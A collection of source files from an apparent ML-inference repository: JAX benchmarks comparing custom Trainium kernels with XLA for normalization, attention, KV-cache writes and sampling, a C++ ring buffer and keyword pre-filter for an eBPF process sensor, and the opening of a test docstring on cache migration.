"""On-chip check: BASS rmsnorm vs XLA reference, plus microbench.
Run from repo root: python benchmarks/bass_rmsnorm_bench.py"""
import sys, os; sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import time
import numpy as np
import jax, jax.numpy as jnp
from chronos_trn.ops.bass_rmsnorm import rmsnorm_bass, _get_kernel
from chronos_trn.core.layers import rmsnorm

N, D = 4096, 4096
x = jax.random.normal(jax.random.PRNGKey(0), (N, D), jnp.float32)
w = jax.random.normal(jax.random.PRNGKey(1), (D,), jnp.float32) * 0.1 + 1.0
x, w = jax.device_put(x), jax.device_put(w)

got = np.asarray(rmsnorm_bass(x, w, eps=1e-5))
want = np.asarray(rmsnorm(x, w, 1e-5))
err = np.abs(got - want).max()
print("max abs err:", err)
assert err < 2e-3, err

reps = 20
xla_fn = jax.jit(lambda x, w: rmsnorm(x, w, 1e-5))
xla_fn(x, w).block_until_ready()
t0=time.time()
for _ in range(reps): r = xla_fn(x, w)
r.block_until_ready(); xla_t = (time.time()-t0)/reps

kern = _get_kernel(1e-5)
kern(x, w).block_until_ready()   # warm (NEFF cached)
t0=time.time()
for _ in range(reps): r = kern(x, w)
r.block_until_ready(); bass_t = (time.time()-t0)/reps
gb = (2 * N * D * 4) / 1e9
print(f"XLA: {xla_t*1e6:.0f} us ({gb/xla_t:.0f} GB/s)   "
      f"BASS kernel: {bass_t*1e6:.0f} us ({gb/bass_t:.0f} GB/s)   "
      f"ratio: {xla_t/bass_t:.2f}x")
