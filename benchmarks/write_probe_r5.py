"""Round-5 write-path probe: how should the KV pool be updated on trn?

decode_ablation_r5 found the fused-step dominator: threading the KV pool
through the layer scan as xs/ys costs ~108-164 ms/step on one NeuronCore
(the compiler double-buffers the pool through a GpSimdE transpose), vs
~6 ms for the attention reads themselves.  This probe times the
candidate replacements at the same shapes:

  A. scan-threaded select-write          (current path, baseline)
  B. ONE top-level scatter on the donated stacked pool (no scan):
     the layer scan only EMITS per-layer K/V (tiny ys); the pool is
     merged once per chunk outside the scan.
  C. B but merging an 8-column ring (one fused chunk's worth).
  D. two-stage top_k (grouped) vs flat lax.top_k at [B, 128256].

Run: python -m benchmarks.write_probe_r5   (on trn)
Writes benchmarks/write_probe_r5.json.
"""
from __future__ import annotations

import json
import os
import sys
import time

import jax
import jax.numpy as jnp
import numpy as np

B, KV, Dh = 32, 1, 128
MPPS, PS = 32, 16
S = MPPS * PS
NL = 32
N = 8  # fused chunk length
VOCAB = 128256
bf = jnp.bfloat16


def timeit(name, fn, *args, iters=20, donate=None):
    jitted = jax.jit(fn, donate_argnums=donate or ())
    host_backup = {i: np.asarray(args[i]) for i in (donate or ())}
    args2 = [jnp.asarray(a) for a in args]
    out = jitted(*args2)
    jax.block_until_ready(out)
    if donate:
        args2 = [jnp.asarray(host_backup[i]) if i in host_backup else a
                 for i, a in enumerate(args2)]
    t0 = time.perf_counter()
    for _ in range(iters):
        out = jitted(*args2)
        if donate:
            res = out[0] if isinstance(out, tuple) else out
            args2 = [res if i == donate[0] else a for i, a in enumerate(args2)]
    jax.block_until_ready(out)
    ms = (time.perf_counter() - t0) / iters * 1e3
    print(f"[probe] {name:30s} {ms:9.3f} ms", file=sys.stderr, flush=True)
    return ms


def main():
    rng = np.random.default_rng(0)
    results = {}

    pool = rng.standard_normal((NL, B, S, KV, Dh), np.float32)
    kvec = rng.standard_normal((B, KV, Dh), np.float32)
    ring = rng.standard_normal((NL, B, N, KV, Dh), np.float32)
    pos = np.full(B, S - N - 2, np.int32)
    rows = np.arange(B, dtype=np.int32)
    pool_bf = pool.astype(np.float32)  # converted to bf16 at jnp.asarray

    # A. current: pool threads the layer scan as xs/ys, select-write
    feed = np.ones(B, bool)

    def scan_write(kd, k, positions, feed):
        wpos = jnp.minimum(positions, S - 1)
        def body(c, kd_l):
            old = kd_l[rows, wpos]
            newv = jnp.where(feed[:, None, None], k.astype(kd_l.dtype), old)
            kd_l = kd_l.at[rows, wpos].set(newv)
            return c, kd_l
        _, out = jax.lax.scan(body, 0, kd)
        return out

    kd = jnp.asarray(pool_bf, bf)
    results["write_scan_threaded"] = timeit(
        "A: scan-threaded write", scan_write, kd, kvec, pos, feed, donate=(0,))

    # B. one top-level scatter of one token per slot into ALL layers
    kl = rng.standard_normal((NL, B, KV, Dh), np.float32)

    def flat_write1(kd, k_layers, positions):
        wpos = jnp.minimum(positions, S - 1)
        return kd.at[:, rows, wpos].set(k_layers.astype(kd.dtype))

    kd = jnp.asarray(pool_bf, bf)
    results["write_flat_1tok"] = timeit(
        "B: flat scatter 1 tok x L", flat_write1, kd, kl, pos, donate=(0,))

    # C. chunk merge: N-column ring into the pool, clamped duplicate
    #    indices for unfed columns (no gather, no select)
    fed = np.full(B, N, np.int32)

    def ring_merge(kd, ring, positions, fed):
        j = jnp.arange(N, dtype=jnp.int32)[None, :]
        wpos = jnp.minimum(positions[:, None] + jnp.minimum(j, fed[:, None]),
                           S - 1)                       # [B, N]
        return kd.at[:, rows[:, None], wpos].set(ring.astype(kd.dtype))

    kd = jnp.asarray(pool_bf, bf)
    results["write_ring_merge"] = timeit(
        "C: ring merge N=8 x L", ring_merge, kd, ring, pos, fed, donate=(0,))

    # C2. ring threading through a layer scan (the small ys the layer
    #     loop would actually carry)
    def ring_scan(rg, k, step):
        def body(c, rg_l):
            rg_l = rg_l.at[rows, step].set(k.astype(rg_l.dtype))
            return c, rg_l
        _, out = jax.lax.scan(body, 0, rg)
        return out

    rg = jnp.asarray(ring, bf)
    results["ring_scan_threaded"] = timeit(
        "C2: ring scan-threaded x L", ring_scan, rg, kvec,
        np.int32(3), donate=(0,))

    # E. the fused-path pattern: pool in the OUTER step-scan CARRY,
    #    one flat scatter per step (XLA aliases while-loop carries in
    #    place — this validates that neuron does too)
    def carry_steps(kd, k_layers, positions):
        def step(carry, _):
            kd, pos = carry
            wpos = jnp.minimum(pos, S - 1)
            kd = kd.at[:, rows, wpos].set(k_layers.astype(kd.dtype))
            return (kd, pos + 1), None
        (kd, _), _ = jax.lax.scan(step, (kd, positions), None, length=N)
        return kd

    kd = jnp.asarray(pool_bf, bf)
    ms = timeit("E: carry scatter x8 steps", carry_steps, kd, kl, pos,
                donate=(0,))
    results["write_carry_8steps"] = ms
    results["write_carry_per_step"] = round(ms / N, 3)

    # F. control: pool in the carry, NO update — isolates the one-time
    #    jit-entry copy from the per-iteration scatter cost
    def carry_identity(kd, positions):
        def step(carry, _):
            kd, pos = carry
            return (kd, pos + 1), jnp.sum(kd[0, 0, 0])
        (kd, _), s = jax.lax.scan(step, (kd, positions), None, length=N)
        return kd, s

    kd = jnp.asarray(pool_bf, bf)
    results["carry_identity_8steps"] = timeit(
        "F: carry identity x8 (control)", carry_identity, kd, pos, donate=(0,))

    # G. dense where-merge: same-layout elementwise select instead of
    #    scatter (scatter lowers to copy-on-write via a slow transpose;
    #    a dense where is layout-preserving VectorE work)
    def where_merge(kd, k_layers, positions):
        wpos = jnp.minimum(positions, S - 1)                    # [B]
        hit = (jnp.arange(S, dtype=jnp.int32)[None, :] == wpos[:, None])
        hit = hit[None, :, :, None, None]                        # [1,B,S,1,1]
        upd = k_layers.astype(kd.dtype)[:, :, None]              # [L,B,1,KV,Dh]
        return jnp.where(hit, upd, kd)

    kd = jnp.asarray(pool_bf, bf)
    results["write_where_merge"] = timeit(
        "G: dense where-merge 1 tok", where_merge, kd, kl, pos, donate=(0,))

    # H. dense where-merge inside the 8-step carry scan
    def carry_where(kd, k_layers, positions):
        def step(carry, _):
            kd, pos = carry
            kd = where_merge(kd, k_layers, pos)
            return (kd, pos + 1), None
        (kd, _), _ = jax.lax.scan(step, (kd, positions), None, length=N)
        return kd

    kd = jnp.asarray(pool_bf, bf)
    ms = timeit("H: carry where-merge x8", carry_where, kd, kl, pos,
                donate=(0,))
    results["carry_where_8steps"] = ms
    results["carry_where_per_step"] = round(ms / N, 3)

    # D. sampling: flat vs two-stage grouped top_k
    logits = rng.standard_normal((B, VOCAB), np.float32)
    results["topk_flat64"] = timeit(
        "D: flat lax.top_k 64", lambda x: jax.lax.top_k(x, 64), logits)

    G = 32  # 32 groups of 4008
    pad = (G - VOCAB % G) % G

    def topk_grouped(x):
        xp = jnp.pad(x, ((0, 0), (0, pad)), constant_values=-np.inf)
        Vg = xp.shape[1] // G
        grp = xp.reshape(B, G, Vg)
        gv, gi = jax.lax.top_k(grp, 64)            # [B, G, 64]
        base = (jnp.arange(G, dtype=jnp.int32) * Vg)[None, :, None]
        cand_v = gv.reshape(B, G * 64)
        cand_i = (gi + base).reshape(B, G * 64)
        v, i2 = jax.lax.top_k(cand_v, 64)
        return v, jnp.take_along_axis(cand_i, i2, axis=1)

    results["topk_grouped64"] = timeit("D: grouped top_k 64", topk_grouped, logits)

    def check():
        v1, i1 = jax.jit(lambda x: jax.lax.top_k(x, 64))(logits)
        v2, i2 = jax.jit(topk_grouped)(logits)
        ok = bool(jnp.allclose(v1, v2) & (i1 == i2).all())
        print(f"[probe] grouped top_k matches flat: {ok}", file=sys.stderr)
        return ok

    results["topk_grouped_matches"] = check()

    out_path = os.path.join(os.path.dirname(__file__), "write_probe_r5.json")
    with open(out_path, "w") as f:
        json.dump(results, f, indent=1)
    print(json.dumps(results))


if __name__ == "__main__":
    main()
