"""On-chip check: BASS paged decode attention vs XLA gather path.
Run from repo root: python benchmarks/bass_paged_attention_bench.py"""
import sys, os; sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import time
import numpy as np
import jax, jax.numpy as jnp
from chronos_trn.ops.bass_paged_attention import paged_attention_bass

B, H, KV, Dh = 4, 8, 2, 128
ps, num_pages, max_pages = 16, 64, 16   # max context 256
G = H // KV
S = max_pages * ps

rng = np.random.default_rng(0)
q = jnp.asarray(rng.normal(size=(B, H, Dh)) * 0.5, jnp.float32)
k_cache = jnp.asarray(rng.normal(size=(num_pages, ps, KV, Dh)) * 0.5, jnp.float32)
v_cache = jnp.asarray(rng.normal(size=(num_pages, ps, KV, Dh)), jnp.float32)
# distinct random block tables per slot; varying lengths
block_tables = np.zeros((B, max_pages), np.int32)
positions = np.array([37, 120, 255, 64], np.int32)
perm = rng.permutation(num_pages)
i = 0
for b in range(B):
    need = (positions[b] // ps) + 1
    block_tables[b, :need] = perm[i:i+need]; i += need

from chronos_trn.core.layers import paged_gqa_attention

def xla_ref():
    # the canonical reference implementation (shared with decode_step)
    return paged_gqa_attention(q, k_cache, v_cache,
                               jnp.asarray(block_tables), jnp.asarray(positions))

want = np.asarray(jax.jit(xla_ref)())
got = np.asarray(paged_attention_bass(q, k_cache, v_cache,
                                      jnp.asarray(block_tables), jnp.asarray(positions)))
err = np.abs(got - want).max()
print("max abs err:", err)
assert err < 3e-2, err
print("paged attention kernel CORRECT")

reps = 20
f = jax.jit(xla_ref); f().block_until_ready()
t0=time.time()
for _ in range(reps): r = f()
r.block_until_ready(); xla_t=(time.time()-t0)/reps
paged_attention_bass(q, k_cache, v_cache, jnp.asarray(block_tables), jnp.asarray(positions)).block_until_ready()
t0=time.time()
for _ in range(reps): r = paged_attention_bass(q, k_cache, v_cache, jnp.asarray(block_tables), jnp.asarray(positions))
r.block_until_ready(); bass_t=(time.time()-t0)/reps
print(f"XLA: {xla_t*1e3:.2f} ms   BASS: {bass_t*1e3:.2f} ms   ratio: {xla_t/bass_t:.2f}x")
