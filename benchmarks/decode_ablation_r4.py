"""On-chip ablation: where does the 8B fused decode step go?

Fused decode measured 81 ms/step at tp=8 b32 ctx512 (BENCH r4) against a
~6 ms weight-bound roofline.  This harness times each component of the
step *in isolation* on ONE NeuronCore at the per-device tp=8 shard
shapes (H=4, KV=1, Dh=128, B=32, S=512, L=32), so the sum identifies
the dominator the layout/kernel work should target.

r5 revision (ADVICE r4): fixes the jnp.arange dtype crash and the
dense-rows reshape size mismatch; adds the suspects the r4 compile log
named — the full-KV-pool `tiled_dve_transpose` (slice+reshape
materialization), the (128256, 32) logits transpose, the per-step embed
gather whose tables the compiler flags (>800 MB total), and the DFA
full-vocab mask gather.

Run: python benchmarks/decode_ablation_r4.py  (on trn; ~14 compiles)
Writes benchmarks/decode_ablation_r5.json.
"""
from __future__ import annotations

import json
import os
import sys
import time

import jax
import jax.numpy as jnp
import numpy as np

from chronos_trn.core import layers as L
from chronos_trn.core import sampling

B, H, KV, Dh = 32, 4, 1, 128     # per-device shard of 8B tp=8
MPPS, PS = 32, 16                # 32 pages/slot x 16 = ctx 512
S = MPPS * PS
NL = 32                          # layers
D, FFN_SH, QD_SH, KVD_SH = 4096, 1792, 512, 128  # per-device widths
VOCAB = 128256
bf = jnp.bfloat16


def timeit(name, fn, *args, iters=20, donate=None):
    jitted = jax.jit(fn, donate_argnums=donate or ())
    # host backups of donated args BEFORE warmup deletes them (reading a
    # donated jax.Array after the call raises "Array has been deleted")
    host_backup = {i: np.asarray(args[i]) for i in (donate or ())}
    args2 = [jnp.asarray(a) for a in args]
    out = jitted(*args2)
    jax.block_until_ready(out)
    if donate:
        args2 = [jnp.asarray(host_backup[i]) if i in host_backup else a
                 for i, a in enumerate(args2)]
    t0 = time.perf_counter()
    for _ in range(iters):
        out = jitted(*args2)
        if donate:
            # feed outputs back (cache-mutating ops return the cache —
            # either bare or as the first element of a tuple)
            res = out[0] if isinstance(out, tuple) else out
            args2 = [res if i == donate[0] else a for i, a in enumerate(args2)]
    jax.block_until_ready(out)
    ms = (time.perf_counter() - t0) / iters * 1e3
    print(f"[ablate] {name:26s} {ms:9.3f} ms", file=sys.stderr, flush=True)
    return ms


def main():
    rng = np.random.default_rng(0)
    results = {}

    q = rng.standard_normal((B, H, Dh), np.float32).astype(np.float32)
    pos = np.full(B, S - 2, np.int32)  # worst case: full context

    # ---- attention variants, scanned over NL layers -------------------
    # page-pool layout (the r4 serving layout incl. scratch page)
    kpool = rng.standard_normal((NL, B * MPPS + 1, PS, KV, Dh), np.float32)

    def scan_attn(attn_fn):
        def run(q, kc, vc, pos):
            def body(acc, kv):
                k, v = kv
                return acc + attn_fn(q, k, v, pos), None
            out, _ = jax.lax.scan(body, jnp.zeros_like(q), (kc, vc))
            return out
        return run

    def slot_attn_r4(q, k_cache, v_cache, positions):
        """The r4 serving implementation (local copy: layers.py now holds
        the slot-major redesign): [:-1] slice + reshape of the page pool,
        f32-upcast vmapped GQA — the configuration under indictment."""
        B_, H_, Dh_ = q.shape
        P, ps, KVh, _ = k_cache.shape
        Sl = ((P - 1) // B_) * ps
        kk = k_cache[:-1].reshape(B_, Sl, KVh, Dh_)
        vv = v_cache[:-1].reshape(B_, Sl, KVh, Dh_)
        s = jnp.arange(Sl)[None, :]
        mask = jnp.where(s <= positions[:, None], 0.0, L.MASK_VALUE).astype(
            jnp.float32
        )
        batched = jax.vmap(L.gqa_attention, in_axes=(0, 0, 0, 0, None))
        return batched(q[:, None], kk, vv, mask[:, None, :], H_ // KVh)[:, 0]

    kc = jnp.asarray(kpool, bf)
    vc = jnp.asarray(kpool, bf)
    results["attn_slot_x32"] = timeit(
        "attn slot (slice) x32",
        scan_attn(slot_attn_r4), q, kc, vc, pos)

    # no-scratch pool: exactly B*MPPS pages, no [:-1] slice
    def slot_noslice(q, k_cache, v_cache, positions):
        P, ps, KVh, _ = k_cache.shape
        Sl = (P // B) * ps
        kk = k_cache.reshape(B, Sl, KVh, Dh)
        vv = v_cache.reshape(B, Sl, KVh, Dh)
        s = jnp.arange(Sl)[None, :]
        mask = jnp.where(s <= positions[:, None], 0.0, L.MASK_VALUE).astype(jnp.float32)
        batched = jax.vmap(L.gqa_attention, in_axes=(0, 0, 0, 0, None))
        return batched(q[:, None], kk, vv, mask[:, None, :], H // KVh)[:, 0]

    kc2 = jnp.asarray(kpool[:, :-1], bf)
    vc2 = jnp.asarray(kpool[:, :-1], bf)
    results["attn_noslice_x32"] = timeit(
        "attn slot (no slice) x32",
        scan_attn(slot_noslice), q, kc2, vc2, pos)

    # dense per-slot rows [B, S, KV, Dh] — no pages, no reshape (the
    # proposed slot-major serving layout; ADVICE r4: built from a
    # correctly-sized source, not the bogus kpool[:, :B] reshape)
    kd_np = kpool[:, : B * MPPS].reshape(NL, B, S, KV, Dh)

    def dense_attn(q, k_cache, v_cache, positions):
        Sl = k_cache.shape[1]
        s = jnp.arange(Sl)[None, :]
        mask = jnp.where(s <= positions[:, None], 0.0, L.MASK_VALUE).astype(jnp.float32)
        batched = jax.vmap(L.gqa_attention, in_axes=(0, 0, 0, 0, None))
        return batched(q[:, None], k_cache, v_cache, mask[:, None, :],
                       H // k_cache.shape[2])[:, 0]

    kd = jnp.asarray(kd_np, bf)
    results["attn_dense_x32"] = timeit(
        "attn dense rows x32",
        scan_attn(dense_attn), q, kd, kd, pos)

    # dense, bf16 scores matmul (no f32 upcast of the pool): TensorE
    # takes bf16 operands with f32 accumulation natively
    def dense_attn_bf16(q, k_cache, v_cache, positions):
        Sl = k_cache.shape[1]
        KVh = k_cache.shape[2]
        g = H // KVh
        qg = q.reshape(B, KVh, g, Dh).astype(bf)
        scores = jnp.einsum(
            "bkgd,bskd->bkgs", qg, k_cache,
            preferred_element_type=jnp.float32,
        ) * (1.0 / np.sqrt(Dh))
        s = jnp.arange(Sl)[None, None, None, :]
        scores = jnp.where(s <= positions[:, None, None, None], scores, L.MASK_VALUE)
        probs = jax.nn.softmax(scores, axis=-1)
        out = jnp.einsum(
            "bkgs,bskd->bkgd", probs.astype(bf), v_cache,
            preferred_element_type=jnp.float32,
        )
        return out.reshape(B, H, Dh)

    results["attn_dense_bf16_x32"] = timeit(
        "attn dense bf16 x32",
        scan_attn(dense_attn_bf16), q, kd, kd, pos)

    # ---- cache write scatter x32 --------------------------------------
    kvec = rng.standard_normal((B, KV, Dh), np.float32)

    def write_x32(kc, k, positions):
        slot_pages = jnp.arange(B, dtype=jnp.int32) * MPPS + positions // PS
        def body(c, kc_l):
            kc_l = kc_l.at[slot_pages, positions % PS].set(k.astype(kc_l.dtype))
            return c, kc_l
        _, out = jax.lax.scan(body, 0, kc)
        return out

    results["write_slot_x32"] = timeit(
        "cache write (paged) x32", write_x32, kc, kvec, pos, donate=(0,))

    # slot-major select-write: scatter one row per slot into [B, S, ...],
    # old value preserved where feed is off (no scratch page needed)
    feed = np.ones(B, bool)
    rows = np.arange(B, dtype=np.int32)

    def write_dense_x32(kd, k, positions, feed):
        wpos = jnp.minimum(positions, S - 1)
        def body(c, kd_l):
            old = kd_l[rows, wpos]                    # [B, KV, Dh]
            newv = jnp.where(feed[:, None, None], k.astype(kd_l.dtype), old)
            kd_l = kd_l.at[rows, wpos].set(newv)
            return c, kd_l
        _, out = jax.lax.scan(body, 0, kd)
        return out

    results["write_dense_x32"] = timeit(
        "cache write (dense sel) x32", write_dense_x32, kd, kvec, pos, feed,
        donate=(0,))

    # ---- sampling path ------------------------------------------------
    logits = rng.standard_normal((B, VOCAB), np.float32)
    results["topk64"] = timeit(
        "lax.top_k K=64", lambda x: jax.lax.top_k(x, 64), logits)
    temp = np.full(B, 0.0, np.float32)
    tp_ = np.ones(B, np.float32)
    seeds = np.arange(B, dtype=np.int32)
    results["sample_full"] = timeit(
        "sample_topk_batched",
        lambda lg: sampling.sample_topk_batched(lg, temp, tp_, seeds, pos, 64),
        logits)
    results["argmax"] = timeit(
        "argmax_1op", sampling.argmax_1op, logits)

    # logits transpose: the r4 compile log shows a tiled_pf_transpose of
    # (VOCAB, B) f32 -> (B, VOCAB) in the fused graph
    lt = rng.standard_normal((VOCAB, B), np.float32)
    results["logits_transpose"] = timeit(
        "logits transpose [V,B]->[B,V]", lambda x: x.T + 0.0, lt)

    # ---- embed gather (the >800 MB gather-table warning) --------------
    # full replicated table (what a 1-core slice of the fused graph sees)
    embed = rng.standard_normal((VOCAB, D), np.float32)
    emb_bf = jnp.asarray(embed, bf)
    toks = rng.integers(0, VOCAB, B).astype(np.int32)
    results["embed_gather_full"] = timeit(
        "embed gather [V,D] full", lambda e, t: e[t], emb_bf, toks)
    # one-hot matmul alternative (TensorE instead of gather)
    results["embed_onehot_full"] = timeit(
        "embed one-hot matmul",
        lambda e, t: jax.nn.one_hot(t, VOCAB, dtype=bf) @ e, emb_bf, toks)

    # ---- DFA mask: full-vocab gather + where (device JSON constraint) -
    mask_rows = rng.integers(0, 2, (512, VOCAB)).astype(bool)
    states = rng.integers(0, 512, B).astype(np.int32)

    def dfa_mask(mr, st, lg):
        allowed = mr[st]
        return jnp.where(allowed, lg, L.MASK_VALUE)

    results["dfa_mask_fullvocab"] = timeit(
        "dfa mask gather+where", dfa_mask, mask_rows, states, logits)

    # ---- matmul stack (weight-read reference) -------------------------
    x = rng.standard_normal((B, D), np.float32)
    w = {
        "wq": rng.standard_normal((NL, D, QD_SH), np.float32),
        "wk": rng.standard_normal((NL, D, KVD_SH), np.float32),
        "wv": rng.standard_normal((NL, D, KVD_SH), np.float32),
        "wo": rng.standard_normal((NL, QD_SH, D), np.float32),
        "wg": rng.standard_normal((NL, D, FFN_SH), np.float32),
        "wu": rng.standard_normal((NL, D, FFN_SH), np.float32),
        "wd": rng.standard_normal((NL, FFN_SH, D), np.float32),
    }
    wb = {k: jnp.asarray(v, bf) for k, v in w.items()}

    def matmuls(x, w):
        def body(x, lw):
            h = x.astype(bf)
            a = h @ lw["wq"]
            b_ = h @ lw["wk"]
            c = h @ lw["wv"]
            x = x + (a @ lw["wo"]).astype(x.dtype)
            g = jax.nn.silu((h @ lw["wg"]).astype(jnp.float32)).astype(bf)
            u = h @ lw["wu"]
            x = x + ((g * u) @ lw["wd"]).astype(x.dtype)
            return x + 1e-6 * (jnp.sum(b_) + jnp.sum(c)).astype(x.dtype), None
        out, _ = jax.lax.scan(body, x, w)
        return out

    results["matmuls_x32"] = timeit("matmul stack x32", matmuls, x, wb)

    hw = jnp.asarray(rng.standard_normal((D, VOCAB // 8), np.float32), bf)
    results["lm_head"] = timeit(
        "lm_head shard", lambda x, w: (x.astype(bf) @ w).astype(jnp.float32), x, hw)

    out_path = os.path.join(os.path.dirname(__file__), "decode_ablation_r5.json")
    with open(out_path, "w") as f:
        json.dump(results, f, indent=1)
    print(json.dumps(results))


if __name__ == "__main__":
    main()
