"""On-chip check: BASS flash attention vs XLA gqa_attention + microbench.
Run from repo root: python benchmarks/bass_attention_bench.py"""
import sys, os; sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import time
import numpy as np
import jax, jax.numpy as jnp
from chronos_trn.ops.bass_attention import flash_attention_bass
from chronos_trn.core.layers import gqa_attention, causal_mask

T, H, KV, Dh = 2048, 32, 8, 128
G = H // KV
kq, kk, kv_ = jax.random.split(jax.random.PRNGKey(0), 3)
q = jax.random.normal(kq, (T, H, Dh), jnp.float32) * 0.5
k = jax.random.normal(kk, (T, KV, Dh), jnp.float32) * 0.5
v = jax.random.normal(kv_, (T, KV, Dh), jnp.float32)

got = np.asarray(flash_attention_bass(q, k, v))
want = np.asarray(gqa_attention(q, k, v, causal_mask(T, T), G))
err = np.abs(got - want).max()
print("max abs err:", err)
assert err < 3e-2, err

reps = 5
xla_fn = jax.jit(lambda q, k, v: gqa_attention(q, k, v, causal_mask(T, T), G))
xla_fn(q, k, v).block_until_ready()
t0=time.time()
for _ in range(reps): r = xla_fn(q, k, v)
r.block_until_ready(); xla_t=(time.time()-t0)/reps

flash_attention_bass(q, k, v).block_until_ready()
t0=time.time()
for _ in range(reps): r = flash_attention_bass(q, k, v)
r.block_until_ready(); bass_t=(time.time()-t0)/reps
flops = 2 * 2 * T * T * H * Dh  # qk + pv
print(f"XLA: {xla_t*1e3:.2f} ms ({flops/xla_t/1e12:.2f} TF/s)   "
      f"BASS: {bass_t*1e3:.2f} ms ({flops/bass_t/1e12:.2f} TF/s)   "
      f"speedup: {xla_t/bass_t:.2f}x")
