// chronos_trn native sensor data plane.
//
// The reference's data plane is an in-kernel perf ring buffer feeding a
// Python callback (reference chronos_sensor.py:160-163) — fine at human
// attack rates, but the continuous-batching tier ingests 64+ streams
// (BASELINE.json config 3).  This library provides the user-space half
// natively:
//   * batch codec for the 286-byte data_t record (pid u32, comm[16],
//     argv[256], type[10]) — validates/normalizes NUL-termination;
//   * a lock-free single-producer/single-consumer ring of fixed-size
//     records (the user-space mirror of the kernel perf buffer), so a
//     native reader thread can drain the eBPF fd while Python analyzes;
//   * a trigger pre-filter that applies the comm ignore-list and
//     keyword scan (chronos_sensor.py:134,141 semantics) in native code
//     so Python only wakes for candidate events.
//
// Exposed as a C ABI for ctypes (pybind11 is not in the image).
#include <atomic>
#include <cstdint>
#include <cstring>
#include <new>

extern "C" {

constexpr int COMM_LEN = 16;
constexpr int ARGV_LEN = 256;
constexpr int TYPE_LEN = 10;
constexpr int RECORD_SIZE = 4 + COMM_LEN + ARGV_LEN + TYPE_LEN;  // 286

// ---------------------------------------------------------------------------
// codec
// ---------------------------------------------------------------------------

// Normalize a batch of raw records in place: force NUL termination of the
// string fields and zero the bytes after the first NUL (stable hashing /
// dedup downstream). Returns number of records processed.
int chronos_normalize_batch(uint8_t *buf, int n_records) {
  for (int i = 0; i < n_records; i++) {
    uint8_t *rec = buf + (size_t)i * RECORD_SIZE;
    uint8_t *fields[3] = {rec + 4, rec + 4 + COMM_LEN, rec + 4 + COMM_LEN + ARGV_LEN};
    int lens[3] = {COMM_LEN, ARGV_LEN, TYPE_LEN};
    for (int f = 0; f < 3; f++) {
      uint8_t *p = fields[f];
      int len = lens[f];
      p[len - 1] = 0;
      int end = (int)strnlen((const char *)p, len);
      memset(p + end, 0, len - end);
    }
  }
  return n_records;
}

// ---------------------------------------------------------------------------
// SPSC ring of fixed-size records
// ---------------------------------------------------------------------------
struct Ring {
  uint8_t *data;
  size_t capacity;  // number of records (power of two)
  std::atomic<uint64_t> head;  // producer writes
  std::atomic<uint64_t> tail;  // consumer reads
  std::atomic<uint64_t> dropped;
};

void *chronos_ring_create(size_t capacity_records) {
  // round up to power of two
  size_t cap = 1;
  while (cap < capacity_records) cap <<= 1;
  Ring *r = new (std::nothrow) Ring();
  if (!r) return nullptr;
  r->data = new (std::nothrow) uint8_t[cap * RECORD_SIZE];
  if (!r->data) {
    delete r;
    return nullptr;
  }
  r->capacity = cap;
  r->head.store(0);
  r->tail.store(0);
  r->dropped.store(0);
  return r;
}

void chronos_ring_destroy(void *ring) {
  Ring *r = (Ring *)ring;
  if (!r) return;
  delete[] r->data;
  delete r;
}

// Push one record. Returns 1 on success, 0 if full (record dropped —
// mirrors perf-buffer overflow semantics; the drop counter records it).
int chronos_ring_push(void *ring, const uint8_t *record) {
  Ring *r = (Ring *)ring;
  uint64_t head = r->head.load(std::memory_order_relaxed);
  uint64_t tail = r->tail.load(std::memory_order_acquire);
  if (head - tail >= r->capacity) {
    r->dropped.fetch_add(1, std::memory_order_relaxed);
    return 0;
  }
  memcpy(r->data + (head & (r->capacity - 1)) * RECORD_SIZE, record, RECORD_SIZE);
  r->head.store(head + 1, std::memory_order_release);
  return 1;
}

// Pop up to max_records into out. Returns number popped.
int chronos_ring_pop(void *ring, uint8_t *out, int max_records) {
  Ring *r = (Ring *)ring;
  uint64_t tail = r->tail.load(std::memory_order_relaxed);
  uint64_t head = r->head.load(std::memory_order_acquire);
  int n = (int)(head - tail);
  if (n > max_records) n = max_records;
  for (int i = 0; i < n; i++) {
    memcpy(out + (size_t)i * RECORD_SIZE,
           r->data + ((tail + i) & (r->capacity - 1)) * RECORD_SIZE, RECORD_SIZE);
  }
  r->tail.store(tail + n, std::memory_order_release);
  return n;
}

uint64_t chronos_ring_dropped(void *ring) {
  return ((Ring *)ring)->dropped.load(std::memory_order_relaxed);
}

// ---------------------------------------------------------------------------
// trigger pre-filter
// ---------------------------------------------------------------------------
// comm substrings to ignore / argv+comm keywords to trigger on, each a
// NUL-separated double-NUL-terminated list.
static bool contains(const char *hay, int hay_cap, const char *needle) {
  int nlen = (int)strlen(needle);
  int hlen = (int)strnlen(hay, hay_cap);
  if (nlen == 0 || nlen > hlen) return false;
  for (int i = 0; i + nlen <= hlen; i++) {
    if (memcmp(hay + i, needle, nlen) == 0) return true;
  }
  return false;
}

// Classify one record: returns 0 = ignore (comm on ignore list),
// 1 = buffer only, 2 = buffer + trigger candidate (keyword hit).
int chronos_classify(const uint8_t *record, const char *ignore_list,
                     const char *trigger_list) {
  const char *comm = (const char *)(record + 4);
  const char *argv = (const char *)(record + 4 + COMM_LEN);
  for (const char *p = ignore_list; *p; p += strlen(p) + 1) {
    if (contains(comm, COMM_LEN, p)) return 0;
  }
  for (const char *p = trigger_list; *p; p += strlen(p) + 1) {
    if (contains(comm, COMM_LEN, p) || contains(argv, ARGV_LEN, p)) return 2;
  }
  return 1;
}

// Batch classify: writes one byte per record into out_classes.
int chronos_classify_batch(const uint8_t *buf, int n_records,
                           const char *ignore_list, const char *trigger_list,
                           uint8_t *out_classes) {
  for (int i = 0; i < n_records; i++) {
    out_classes[i] =
        (uint8_t)chronos_classify(buf + (size_t)i * RECORD_SIZE, ignore_list, trigger_list);
  }
  return n_records;
}

}  // extern "C"
