"""Stateful chain migration (fleet/migrate.py + engine import/export +
server /cache endpoints + router re-homing + burn-rate autoscaler).

Layers, mirroring the subsystem:

* wire format — CHRMIG payloads roundtrip both pool dtypes and REJECT
  every corruption class (magic, version, digest, truncation, span
  bounds) before a single record is constructed;
* prefix-cache primitives — export pins survive pressure (crash
  safety), import_chunk enforces the consecutive-chain rule;
* engine — export→wire→import roundtrips on BOTH KV layouts under
  CHRONOS_SANITIZE, a corrupt payload degrades to cold re-prefill with
  zero cache mutations, a chain gap yields a clean partial import;
* fleet — heuristic replicas migrate chain residency over real HTTP,
  the router's rehome paths record reasons, a failed import degrades
  cold without losing a chain, and the autoscaler's scale-out/scale-in
